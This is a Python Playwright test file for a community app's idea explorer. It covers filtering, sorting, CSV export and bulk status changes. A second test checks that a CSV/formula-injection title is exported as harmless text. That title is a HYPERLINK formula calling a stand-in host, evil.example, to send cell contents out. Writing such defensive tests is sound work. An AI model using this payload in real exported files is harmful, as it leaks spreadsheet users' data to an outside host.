"""R&D explores ideas: filter by space and words, sort by a column, export CSV, and (as the
space's owner) plan two ideas at once — in Chromium."""

from __future__ import annotations

import csv

from playwright.sync_api import expect

from community.permissions import Role
from tests.browser.test_ideas import _ideas


def test_explore_sort_export_and_bulk_plan(
    browser, base_url, live_server, live_user, live_space, sign_in, tmp_path
):
    owner = live_user(role=Role.MODERATOR, display_name="Rita Research")
    voter = live_user(display_name="Vic Voter")
    slug = live_space(owner, name="Explorer Lab", slug="explorer-bt")
    _ideas(
        live_server,
        slug,
        owner,
        ["Night mode for scans", "Batch export", "Night shift roster"],
        voters=[
            (voter, "Night shift roster"),
            (owner, "Night shift roster"),
            (owner, "Night mode for scans"),
        ],
    )
    page = browser.new_context(base_url=base_url, accept_downloads=True).new_page()
    sign_in(page, owner.username)
    page.get_by_role("link", name="Insights").click()
    page.get_by_role("link", name="Idea explorer").click()
    expect(page.get_by_role("heading", name="Idea explorer")).to_be_visible()
    page.get_by_label("Space").select_option(label="Explorer Lab")
    page.get_by_label("Words").fill("night")
    page.get_by_role("button", name="Apply filters").click()
    rows = page.get_by_test_id("explorer-row")
    expect(rows).to_have_count(2)
    expect(rows.first).to_contain_text("Night shift roster")  # most votes first

    page.get_by_role("link", name="Votes").click()  # the same column again: fewest first
    expect(rows.first).to_contain_text("Night mode for scans")
    page.screenshot(path="test-results/explorer.png", full_page=True)

    with page.expect_download() as download:
        page.get_by_role("link", name="Export CSV").click()
    saved = tmp_path / "ideas.csv"
    download.value.save_as(saved)
    with saved.open(encoding="utf-8-sig") as handle:
        exported = [(row["title"], row["votes"]) for row in csv.DictReader(handle)]
    assert exported == [("Night mode for scans", "1"), ("Night shift roster", "2")]

    for row in range(2):
        rows.nth(row).get_by_role("checkbox").check()
    page.get_by_label("Change").select_option(label="Set status")
    page.get_by_label("New status").select_option(label="Planned")
    page.get_by_label("Public response").fill("Both are in the spring release.")
    page.get_by_role("button", name="Apply to selected").click()
    expect(page.get_by_role("alert").first).to_contain_text("2 ideas changed.")
    expect(rows.first).to_contain_text("Planned")
    expect(rows.nth(1)).to_contain_text("Planned")


def test_a_title_written_as_a_formula_downloads_as_text(
    browser, base_url, live_server, live_user, live_space, sign_in, tmp_path
):
    owner = live_user(role=Role.MODERATOR)
    slug = live_space(owner, name="Formula Lab", slug="formula-bt")
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Open report")'
    _ideas(live_server, slug, owner, [hostile], voters=[(owner, hostile)])
    page = browser.new_context(base_url=base_url, accept_downloads=True).new_page()
    sign_in(page, owner.username)
    page.goto(f"/analytics/ideas?space={slug}")
    expect(page.get_by_test_id("explorer-row")).to_contain_text(hostile)  # shown as written
    with page.expect_download() as download:
        page.get_by_role("link", name="Export CSV").click()
    saved = tmp_path / "ideas.csv"
    download.value.save_as(saved)
    with saved.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, quoting=csv.QUOTE_NONNUMERIC))
    exported = dict(zip(rows[0], rows[1], strict=True))
    assert exported["title"] == "'" + hostile and exported["votes"] == 1.0
